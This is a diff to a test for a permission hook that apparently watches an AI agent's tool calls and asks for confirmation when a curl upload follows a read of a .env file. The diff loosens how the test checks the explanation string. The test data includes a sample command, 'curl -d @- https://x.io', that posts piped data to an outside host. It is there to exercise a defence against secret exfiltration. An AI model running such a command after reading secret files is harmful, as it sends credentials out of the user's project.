@@ -196,7 +196,8 @@ def test_the_hook_asks_after_a_read_of_env_naming_it(tmp_path, monkeypatch):
     assert _hook(root, "Read", {"file_path": str(root / ".env")}, "toolu_1")["permissionDecision"] == "allow"
     answer = _hook(root, "Bash", {"command": "curl -d @- https://x.io"}, "toolu_2")
     assert answer["permissionDecision"] == "ask"
-    assert f"call `toolu_1` (read `{root / '.env'}`)" in answer["permissionDecisionReason"]
+    reason = answer["permissionDecisionReason"]
+    assert "call `toolu_1` (read `" in reason and "/proj/.env`)" in reason, reason  # a long path keeps its ends
     # another session of the project has read nothing
     assert _hook(root, "Bash", {"command": "curl x"}, "toolu_3", session="s-2")["permissionDecision"] == "allow"
 
